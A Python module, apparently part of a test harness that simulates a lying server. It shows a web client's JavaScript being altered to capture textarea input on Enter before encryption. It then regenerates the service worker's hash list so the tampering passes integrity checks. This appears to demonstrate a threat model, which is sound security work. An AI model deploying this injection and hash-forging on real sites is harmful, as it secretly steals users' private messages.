"""Lies about the program: whoever uses a page runs what its server sends."""

import hashlib
import json
import re
from typing import Final

from halonyx.web.build import Build, File, hash_of
from lying_relay.lie import Lie

SERVICE_WORKER: Final = "service_worker.js"
SCRIPT: Final = re.compile(r"assets/index-[^/]*\.js")
THIEF: Final = b"""
globalThis.stolen = []
addEventListener("keydown", (event) => {
  if (event.key === "Enter" && event.target instanceof HTMLTextAreaElement) globalThis.stolen.push(event.target.value)
}, true)
"""


class AlteredJavaScript(Lie):
    """Serves a web client that reads along before anything is encrypted, with all of its hashes made to fit."""

    def page(self, build: Build | None) -> Build | None:
        """Serve the page with a thief in it."""
        if build is None:
            return None
        altered = [
            File(path, file.content + THIEF if SCRIPT.fullmatch(path) else file.content)
            for path, file in build.files.items()
        ]
        files = [_relisted(file, altered) for file in altered]
        return Build({file.path: file for file in files}, hash_of(files))


def _relisted(file: File, files: list[File]) -> File:
    """Make the service worker's list of hashes fit the files again; a build does the same."""
    if file.path != SERVICE_WORKER:
        return file
    listed = [
        {"path": other.path, "sha256": hashlib.sha256(other.content).hexdigest()}
        for other in files
        if other.path != SERVICE_WORKER
    ]
    name = hashlib.sha256(json.dumps(listed).encode()).hexdigest()[:16]
    text = file.content.decode()
    for constant, value in (("BUILD", name), ("FILES", listed)):
        line = f"const {constant} = {json.dumps(value)}"
        text = re.sub(rf"^const {constant} = .*$", lambda _, line=line: line, text, flags=re.MULTILINE)  # type: ignore[misc]
    return File(file.path, text.encode())
